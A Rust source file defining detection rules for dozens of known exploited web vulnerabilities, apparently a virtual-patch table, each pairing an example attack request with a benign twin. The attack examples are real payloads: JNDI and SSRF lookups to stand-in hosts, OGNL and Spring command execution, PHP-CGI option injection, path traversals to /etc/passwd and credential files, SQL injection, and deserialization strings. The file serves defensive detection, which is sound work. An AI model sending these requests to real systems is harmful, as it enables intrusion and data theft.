//! The patches. One a vulnerability; the newest version of the table is the one that ships.
//!
//! Sources: the catalogue of known exploited vulnerabilities of CISA, the entries of the national vulnerability database
//! under each number, and the vendors' advisories, by their numbers, or by the release that mends it. Methods, paths and
//! parameters are those of the published requests, which each patch names; one for which none is published does not stand here.

use super::{Example, Patch, Path, When};

/// Counts up with every change of the table. 3: every one read against the request that it names; wider for Confluence's forms,
/// Connect Secure, Exchange, Joomla, TeamCity, PHPUnit, Drupal and Apache; advisories of PAN-OS and
/// Joomla by the releases that mend them. 2: each names its advisory; F5 and FortiOS by the header that they believe; Contact
/// Form 7 left out, because no request is published that tells an attack from an upload.
pub const VERSION: u32 = 3;

const fn request(method: &'static str, target: &'static str) -> Example {
    Example { method, target, header: None, form: "" }
}

const fn form(target: &'static str, form: &'static str) -> Example {
    Example { method: "POST", target, header: None, form }
}

const fn with(method: &'static str, target: &'static str, name: &'static str, value: &'static str) -> Example {
    Example { method, target, header: Some((name, value)), form: "" }
}

macro_rules! nvd {
    ($id:literal) => {
        concat!("https://nvd.nist.gov/vuln/detail/", $id)
    };
}

/// Where most of the requests are published: templates of a scanner, one for each number, which name the vendors' advisories.
macro_rules! template {
    ($id:literal) => {
        concat!("projectdiscovery/nuclei-templates, ", $id)
    };
}

macro_rules! patch {
    ($id:literal, $advisory:literal, $about:literal, $path:expr, [$($when:expr),* $(,)?], $attack:expr, $twin:expr $(,)?) => {
        patch!($id, $advisory, read: template!($id), $about, $path, [$($when),*], $attack, $twin)
    };
    ($id:literal, $advisory:literal, read: $read:expr, $about:literal, $path:expr, [$($when:expr),* $(,)?], $attack:expr, $twin:expr $(,)?) => {
        Patch { id: $id, about: $about, source: nvd!($id), advisory: $advisory, read: $read, path: $path, when: &[$($when),*], attack: $attack, twin: $twin }
    };
}

/// Longer than any name of the domain name system.
const LONG_HOST: &str = match std::str::from_utf8(&[b'a'; 600]) {
    Ok(host) => host,
    Err(_) => "",
};

/// Every patch.
pub const PATCHES: &[Patch] = &[
    patch!(
        "CVE-2021-44228",
        "GHSA-jfh8-c2jp-5v3q",
        "Log4j follows lookups in what it logs",
        Path::Any,
        [When::Header("user-agent", "${jndi:")],
        with("GET", "/", "User-Agent", "${jndi:ldap://x.example/a}"),
        with("GET", "/", "User-Agent", "Mozilla/5.0 (jndi; ldap)"),
    ),
    patch!(
        "CVE-2022-22965",
        "GHSA-36p3-wjmg-h94x",
        "Spring binds parameters to the class loader",
        Path::Any,
        [When::Parameter("class.module.classloader", "")],
        form("/", "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
        form("/", "class=module&loader=1"),
    ),
    patch!(
        "CVE-2022-22963",
        "GHSA-6v73-fgf6-w5j7",
        "Spring Cloud Function evaluates the header that routes",
        Path::Any,
        [When::Header("spring.cloud.function.routing-expression", "")],
        with(
            "POST",
            "/functionRouter",
            "spring.cloud.function.routing-expression",
            "T(java.lang.Runtime).getRuntime().exec('id')"
        ),
        request("POST", "/functionRouter"),
    ),
    patch!(
        "CVE-2022-22947",
        "GHSA-3gx9-37ww-9qw6",
        "Spring Cloud Gateway takes routes from anybody",
        Path::Begins("/actuator/gateway/routes"),
        [When::Method("POST")],
        request("POST", "/actuator/gateway/routes/x"),
        request("GET", "/actuator/health"),
    ),
    patch!(
        "CVE-2022-26134",
        "CONFSERVER-79016",
        "Confluence evaluates the path as OGNL",
        Path::Has("${"),
        [When::Target("}")],
        request("GET", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/"),
        request("GET", "/display/TEAM/Price+in+%24"),
    ),
    patch!(
        "CVE-2021-26084",
        "CONFSERVER-67940",
        "Confluence evaluates parameters of forms as OGNL",
        Path::Any,
        [When::Parameter("querystring", "\\u0027")],
        form("/pages/createpage-entervariables.action", "queryString=%5Cu0027%2B%7B1%2B1%7D%2B%5Cu0027"),
        form("/pages/createpage-entervariables.action", "queryString=title"),
    ),
    patch!(
        "CVE-2023-22515",
        "CONFSERVER-92475",
        "Confluence lets anybody change its setup",
        Path::Ends("/server-info.action"),
        [When::Target("bootstrapstatusprovider")],
        request("GET", "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false"),
        request("GET", "/server-info.action"),
    ),
    patch!(
        "CVE-2023-22518",
        "CONFSERVER-93142",
        "Confluence restores a backup for anybody",
        Path::Has("/json/setup-restore"),
        [],
        request("POST", "/json/setup-restore.action?synchronous=true"),
        request("GET", "/pages/setup-guide"),
    ),
    patch!(
        "CVE-2023-22527",
        "CONFSERVER-93833",
        "Confluence evaluates a template's parameter as OGNL",
        Path::Ends("/template/aui/text-inline.vm"),
        [],
        form("/template/aui/text-inline.vm", "label=x"),
        request("GET", "/s/aui/text-inline.css"),
    ),
    patch!(
        "CVE-2019-19781",
        "CTX267027",
        "Citrix ADC steps out of its directory",
        Path::Has("/vpn/../vpns/"),
        [],
        request("GET", "/vpn/../vpns/cfg/smb.conf"),
        request("GET", "/vpn/index.html"),
    ),
    patch!(
        "CVE-2023-3519",
        "CTX561482",
        read: "assetnote/exploits, CVE-2023-3519",
        "Citrix ADC overflows where it reads assertions",
        Path::Begins("/gwtest/formssso"),
        [When::Target("event=start")],
        request("GET", "/gwtest/formssso?event=start&target=AAAA"),
        request("GET", "/gwtest/index"),
    ),
    patch!(
        "CVE-2023-4966",
        "CTX579459",
        "Citrix ADC tells its memory to a long host",
        Path::Begins("/oauth/idp/.well-known/openid-configuration"),
        [When::HeaderOver("host", 512)],
        with("GET", "/oauth/idp/.well-known/openid-configuration", "Host", LONG_HOST),
        with("GET", "/oauth/idp/.well-known/openid-configuration", "Host", "login.example.org"),
    ),
    patch!(
        "CVE-2023-34362",
        "Progress, 31 May 2023",
        "MOVEit takes a session's variables from headers",
        Path::Ends("/moveitisapi/moveitisapi.dll"),
        [When::Target("action=m2")],
        request("POST", "/moveitisapi/moveitisapi.dll?action=m2"),
        request("GET", "/human.aspx?r=1"),
    ),
    patch!(
        "CVE-2023-46805",
        "Ivanti, 10 January 2024",
        "Ivanti Connect Secure lets paths pass its login",
        Path::Has("/../"),
        [When::Target("/api/v1/")],
        request("GET", "/api/v1/totp/user-backup-code/../../system/system-information"),
        request("GET", "/api/v1/totp/user-backup-code"),
    ),
    patch!(
        "CVE-2024-21893",
        "Ivanti, 31 January 2024",
        "Ivanti Connect Secure fetches what a document names",
        Path::Begins("/dana-ws/saml20.ws"),
        [],
        request("POST", "/dana-ws/saml20.ws"),
        request("GET", "/dana-na/auth/welcome.cgi"),
    ),
    patch!(
        "CVE-2023-35078",
        "Ivanti, 24 July 2023",
        "Ivanti Endpoint Manager answers anybody on its interface",
        Path::Begins("/mifs/aad/api/v2/"),
        [],
        request("GET", "/mifs/aad/api/v2/authorized/users?adminDeviceSpaceId=1"),
        request("GET", "/mifs/user/login.jsp"),
    ),
    patch!(
        "CVE-2020-5902",
        "K52145254",
        "F5 BIG-IP steps out of its directory",
        Path::Has("/tmui/login.jsp/..;/"),
        [],
        request("GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp"),
        request("GET", "/tmui/login.jsp"),
    ),
    patch!(
        "CVE-2022-1388",
        "K23605346",
        "F5 BIG-IP believes a header that a proxy should drop",
        Path::Begins("/mgmt/"),
        [When::Header("connection", "x-f5-auth-token")],
        with("POST", "/mgmt/tm/util/bash", "Connection", "close, X-F5-Auth-Token"),
        with("POST", "/mgmt/tm/util/bash", "Connection", "keep-alive"),
    ),
    patch!(
        "CVE-2021-22986",
        "K03009991",
        "F5 BIG-IP fetches with its own rights",
        Path::Begins("/mgmt/shared/authn/login"),
        [When::Parameter("loginreference", "")],
        form("/mgmt/shared/authn/login", "loginReference[link]=http://x.example/"),
        form("/mgmt/shared/authn/login", "username=jane"),
    ),
    patch!(
        "CVE-2024-4577",
        "GHSA-3qgc-jrrr-25jv",
        "PHP on Windows takes a soft hyphen for an option",
        Path::Any,
        [When::TargetBytes(b"?\xadd")],
        request("POST", "/index.php?%ADd+allow_url_include%3d1"),
        request("GET", "/index.php?d=1"),
    ),
    patch!(
        "CVE-2012-1823",
        "PHP bug 61910",
        "PHP as CGI takes a query for its options",
        Path::Any,
        [When::Target("?-d"), When::Target("allow_url_include")],
        request("POST", "/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input"),
        request("GET", "/index.php?-d"),
    ),
    patch!(
        "CVE-2017-9841",
        "GHSA-r7c9-c69m-rph8",
        "PHPUnit runs what it is sent",
        Path::Has("/util/php/eval-stdin.php"),
        [],
        request("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
        request("GET", "/vendor/phpunit/readme"),
    ),
    patch!(
        "CVE-2021-34473",
        "MSRC CVE-2021-34473",
        "Exchange takes a path for another",
        Path::Begins("/autodiscover/autodiscover.json"),
        [When::Target("@"), When::Target("/powershell")],
        request("POST", "/autodiscover/autodiscover.json?@evil.example/PowerShell/?X=1"),
        request("GET", "/autodiscover/autodiscover.json?Email=jane@example.org&Protocol=ews"),
    ),
    patch!(
        "CVE-2021-34473",
        "MSRC CVE-2021-34473",
        "Exchange takes a path for another, named again as a mail address",
        Path::Begins("/autodiscover/autodiscover.json"),
        [When::Target("email=autodiscover/autodiscover.json?")],
        request(
            "GET",
            "/autodiscover/autodiscover.json?@x.example/owa/?&Email=autodiscover/autodiscover.json%3F@x.example"
        ),
        request("GET", "/autodiscover/autodiscover.json?Email=jane@example.org&Protocol=autodiscoverv1"),
    ),
    patch!(
        "CVE-2021-26855",
        "MSRC CVE-2021-26855",
        "Exchange fetches what a cookie names",
        Path::Begins("/ecp/"),
        [When::Parameter("x-beresource", "~")],
        with("GET", "/ecp/x.js", "Cookie", "X-BEResource=localhost~1942062522"),
        with("GET", "/ecp/x.js", "Cookie", "sid=1"),
    ),
    patch!(
        "CVE-2021-26855",
        "MSRC CVE-2021-26855",
        "Exchange fetches what a cookie of nobody's names",
        Path::Any,
        [When::Parameter("x-anonresource-backend", "~")],
        with("GET", "/owa/auth/x.js", "Cookie", "X-AnonResource=true; X-AnonResource-Backend=x.example/a?~3"),
        with("GET", "/owa/auth/x.js", "Cookie", "X-OWA-CANARY=1"),
    ),
    patch!(
        "CVE-2017-5638",
        "S2-045",
        "Struts evaluates the type of a body as OGNL",
        Path::Any,
        [When::Header("content-type", "%{")],
        with("POST", "/", "Content-Type", "%{(#_='multipart/form-data').(#cmd='id')}"),
        with("POST", "/", "Content-Type", "multipart/form-data; boundary=x%7B"),
    ),
    patch!(
        "CVE-2018-11776",
        "S2-057",
        "Struts evaluates the path as OGNL",
        Path::Has("${"),
        [When::Target(".action")],
        request("GET", "/${(111+111)}/actionChain1.action"),
        request("GET", "/actionChain1.action"),
    ),
    patch!(
        "CVE-2014-6271",
        "RHSA-2014:1293",
        "Bash runs what stands behind a function",
        Path::Any,
        [When::Header("user-agent", "() {")],
        with("GET", "/cgi-bin/status", "User-Agent", "() { :;}; /bin/true"),
        with("GET", "/cgi-bin/status", "User-Agent", "check (x) y"),
    ),
    patch!(
        "CVE-2018-7600",
        "SA-CORE-2018-002",
        "Drupal renders what a form names",
        Path::Any,
        [When::Parameter("[#", "")],
        form("/user/register", "mail[#post_render][]=exec&mail[#type]=markup"),
        form("/user/register", "mail[0]=jane@example.org"),
    ),
    patch!(
        "CVE-2014-3704",
        "SA-CORE-2014-005",
        "Drupal takes the name of a field into a statement",
        Path::Any,
        [When::Parameter("name[0;", "")],
        form("/?q=node&destination=node", "name[0;update users set name='x']=1&name[0]=2"),
        form("/?q=node", "name[0]=jane"),
    ),
    patch!(
        "CVE-2014-3704",
        "SA-CORE-2014-005",
        "Drupal takes the name of a field into a statement, behind a space",
        Path::Any,
        [When::Parameter("name[0 ", "")],
        form("/?q=node&destination=node", "name[0 or updatexml(0x23,concat(1,md5(1)),1)%23]=bob&name[0]=a"),
        form("/?q=node", "name[0]=jane&name[1]=doe"),
    ),
    patch!(
        "CVE-2019-6340",
        "SA-CORE-2019-003",
        "Drupal builds objects from links",
        Path::Has("/node/"),
        [When::Target("_format=hal_json"), When::Parameter("options", "o:")],
        form("/node/1?_format=hal_json", "link[0][options]=O:24:\"GuzzleHttp\""),
        request("GET", "/node/1?_format=hal_json"),
    ),
    patch!(
        "CVE-2023-23752",
        "Joomla 20230201",
        "Joomla tells its configuration to anybody",
        Path::Has("/v1/config/application"),
        [When::Target("public=true")],
        request("GET", "/api/index.php/v1/config/application?public=true"),
        request("GET", "/api/index.php/v1/content/articles"),
    ),
    patch!(
        "CVE-2015-8562",
        "Joomla 3.4.6",
        "Joomla builds an object from a header",
        Path::Any,
        [When::Header("user-agent", "jdatabasedrivermysqli")],
        with("GET", "/", "User-Agent", "}__test|O:21:\"JDatabaseDriverMysqli\":3:{}"),
        with("GET", "/", "User-Agent", "Joomla/4"),
    ),
    patch!(
        "CVE-2020-25213",
        "WP File Manager 6.9",
        "WordPress File Manager runs commands of anybody",
        Path::Has("/wp-content/plugins/wp-file-manager/lib/php/connector"),
        [],
        request("POST", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"),
        request("GET", "/wp-content/plugins/wp-file-manager/readme"),
    ),
    patch!(
        "CVE-2024-25600",
        "Bricks 1.9.6.1",
        "Bricks for WordPress runs code of anybody",
        Path::Has("/wp-json/bricks/v1/render_element"),
        [When::Parameter("queryeditor", "")],
        form("/wp-json/bricks/v1/render_element", "element[settings][query][queryEditor]=phpinfo"),
        form("/wp-json/bricks/v1/render_element", "element[name]=heading"),
    ),
    patch!(
        "CVE-2023-28121",
        "WooCommerce Payments, 23 March 2023",
        "WooCommerce Payments believes who a header says one is",
        Path::Any,
        [When::Header("x-wcpay-platform-checkout-user", "")],
        with("POST", "/wp-json/wp/v2/users", "X-WCPAY-PLATFORM-CHECKOUT-USER", "1"),
        request("GET", "/wp-json/wp/v2/posts"),
    ),
    patch!(
        "CVE-2019-9978",
        "Social Warfare 3.5.3",
        "Social Warfare for WordPress fetches code",
        Path::Has("/wp-admin/admin-post.php"),
        [When::Target("swp_url=")],
        request("GET", "/wp-admin/admin-post.php?swp_debug=load_options&swp_url=http://x.example/a.txt"),
        request("GET", "/wp-admin/admin-post.php?action=save"),
    ),
    patch!(
        "CVE-2021-41773",
        "Apache httpd 2.4.50",
        "Apache 2.4.49 steps out of its directory",
        Path::Has("/../../"),
        [],
        request("GET", "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd"),
        request("GET", "/cgi-bin/status"),
    ),
    patch!(
        "CVE-2023-28432",
        "GHSA-6xvq-wj2x-3h3q",
        "MinIO tells its secrets to anybody",
        Path::Begins("/minio/bootstrap/v1/verify"),
        [],
        request("POST", "/minio/bootstrap/v1/verify"),
        request("GET", "/minio/health/live"),
    ),
    patch!(
        "CVE-2020-14882",
        "Oracle CPU October 2020",
        "WebLogic's console lets paths pass its login",
        Path::Has("/console/"),
        [When::Target("/console.portal"), When::Target("../")],
        request("GET", "/console/css/%252e%252e%252fconsole.portal"),
        request("GET", "/console/login/LoginForm.jsp"),
    ),
    patch!(
        "CVE-2017-10271",
        "Oracle CPU October 2017",
        "WebLogic builds objects from a document",
        Path::Begins("/wls-wsat/"),
        [],
        request("POST", "/wls-wsat/CoordinatorPortType"),
        request("GET", "/wls/index"),
    ),
    patch!(
        "CVE-2018-13379",
        "FG-IR-18-384",
        "FortiGate steps out of its directory",
        Path::Begins("/remote/fgt_lang"),
        [When::Target("/../")],
        request("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
        request("GET", "/remote/fgt_lang?lang=en"),
    ),
    patch!(
        "CVE-2022-40684",
        "FG-IR-22-377",
        "FortiOS believes a forwarded address",
        Path::Begins("/api/v2/"),
        [When::Header("forwarded", "127.0.0.1")],
        with("PUT", "/api/v2/cmdb/system/admin/admin", "Forwarded", "for=[127.0.0.1]:8000;by=[127.0.0.1]:9000;"),
        with("GET", "/api/v2/cmdb/system/admin", "Forwarded", "for=192.0.2.7"),
    ),
    patch!(
        "CVE-2019-11510",
        "SA44101",
        "Pulse Secure steps out of its directory",
        Path::Begins("/dana-na/../"),
        [],
        request("GET", "/dana-na/../dana/html5acc/guacamole/../../../../../etc/hosts?/dana/html5acc/guacamole/"),
        request("GET", "/dana-na/auth/url_default/welcome.cgi"),
    ),
    patch!(
        "CVE-2024-3400",
        "PAN-OS 10.2.9-h1",
        "PAN-OS makes a file and a command of a cookie",
        Path::Any,
        [When::Parameter("sessid", "/../")],
        with("POST", "/ssl-vpn/hipreport.esp", "Cookie", "SESSID=/../../../opt/panlogs/tmp/x"),
        with("POST", "/ssl-vpn/hipreport.esp", "Cookie", "SESSID=6e1f0a"),
    ),
    patch!(
        "CVE-2024-1709",
        "ConnectWise, 19 February 2024",
        "ScreenConnect lets anybody set it up again",
        Path::Begins("/setupwizard.aspx/"),
        [],
        request("GET", "/SetupWizard.aspx/x"),
        request("GET", "/Login.aspx"),
    ),
    patch!(
        "CVE-2023-27350",
        "PaperCut PO-1216",
        "PaperCut lets anybody past its setup",
        Path::Begins("/app"),
        [When::Target("service=page/setupcompleted")],
        request("GET", "/app?service=page/SetupCompleted"),
        request("GET", "/app?service=page/Home"),
    ),
    patch!(
        "CVE-2023-42793",
        "TeamCity 2023.05.4",
        "TeamCity gives tokens to anybody",
        Path::Ends("/rpc2"),
        [When::Target("/app/rest/")],
        request("POST", "/app/rest/users/id:1/tokens/RPC2"),
        request("GET", "/app/rest/users/id:1"),
    ),
    patch!(
        "CVE-2020-7961",
        "CST-7205",
        "Liferay builds objects from parameters",
        Path::Has("/api/jsonws"),
        [When::Parameter("defaultdata", "")],
        form("/api/jsonws/invoke", "cmd={}&defaultData=com.mchange.v2.c3p0.WrapperConnectionPoolDataSource"),
        form("/api/jsonws/invoke", "cmd={}&name=2"),
    ),
    patch!(
        "CVE-2021-3129",
        "Ignition 2.5.2",
        "Laravel's Ignition writes what it is told",
        Path::Ends("/_ignition/execute-solution"),
        [],
        request("POST", "/_ignition/execute-solution"),
        request("GET", "/_ignition/health-check"),
    ),
    patch!(
        "CVE-2018-20062",
        "ThinkPHP 5.0.23",
        "ThinkPHP calls functions by name",
        Path::Any,
        [When::Target("invokefunction"), When::Target("call_user_func_array")],
        request("GET", "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=x"),
        request("GET", "/index.php?s=/index/news"),
    ),
    patch!(
        "CVE-2025-55182",
        "GHSA-fv66-9v8q-g76r",
        "React Server Components build objects from a form",
        Path::Any,
        [When::Header("next-action", ""), When::Parameter("", "__proto__:then")],
        Example {
            method: "POST",
            target: "/",
            header: Some(("Next-Action", "x")),
            form: "0={\"then\":\"$1:__proto__:then\"}"
        },
        Example { method: "POST", target: "/", header: Some(("Next-Action", "x")), form: "0=[\"jane\"]" },
    ),
    patch!(
        "CVE-2025-29927",
        "GHSA-f82v-jwr5-mffw",
        "Next.js lets a header skip its checks",
        Path::Any,
        [When::Header("x-middleware-subrequest", "middleware")],
        with("GET", "/admin", "x-middleware-subrequest", "middleware:middleware:middleware"),
        request("GET", "/admin"),
    ),
    patch!(
        "CVE-2025-53770",
        "MSRC CVE-2025-53770",
        "SharePoint builds objects for anybody",
        Path::Ends("/toolpane.aspx"),
        [When::Method("POST"), When::Header("referer", "/_layouts/signout.aspx")],
        with("POST", "/_layouts/15/ToolPane.aspx?DisplayMode=Edit", "Referer", "/_layouts/SignOut.aspx"),
        with("POST", "/_layouts/15/ToolPane.aspx?DisplayMode=Edit", "Referer", "/sites/team/start.aspx"),
    ),
];
